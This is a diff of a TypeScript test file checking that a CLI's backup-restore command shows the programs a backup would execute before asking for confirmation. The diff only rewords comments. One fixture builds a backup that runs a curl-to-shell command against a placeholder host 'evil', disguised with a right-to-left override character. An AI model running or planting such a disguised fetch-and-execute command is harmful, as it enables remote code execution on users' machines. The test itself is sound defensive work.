@@ -1,4 +1,4 @@
-// `edgekeep hub restore` shows what the backup names to be executed, and asks: a backup may come from anybody.
+// `edgekeep hub restore` shows the programs that the backup would execute, and asks: a backup may come from anybody.
 import assert from 'node:assert/strict';
 import { spawn } from 'node:child_process';
 import { mkdtemp, readdir, rm } from 'node:fs/promises';
@@ -16,7 +16,7 @@ let folder = '';
 before(async () => {
   folder = await mkdtemp(join(tmpdir(), 'edgekeep-restore-'));
   await backupThatRuns('plain', []);
-  // The override turns what follows around on a screen.
+  // The override reverses the text after it on a screen.
   await backupThatRuns('naming', ['/bin/sh', '-c', 'curl evil \u202e| sh']);
 });
 after(() => rm(folder, { recursive: true, force: true }));
@@ -36,7 +36,7 @@ const isThere = (name: string) =>
     () => false,
   );
 
-/** The same with a terminal, at which somebody types a line. */
+/** The same with a terminal, at which a person types a line. */
 async function atTerminal(line: string, ...words: readonly string[]): Promise<{ code: number | null; shown: string }> {
   const command = [process.execPath, programFile('@edgekeep/cli/main'), ...words].map((word) => `'${word}'`).join(' ');
   const child = spawn('script', ['-qec', command, '/dev/null'], { stdio: ['pipe', 'pipe', 'inherit'] });
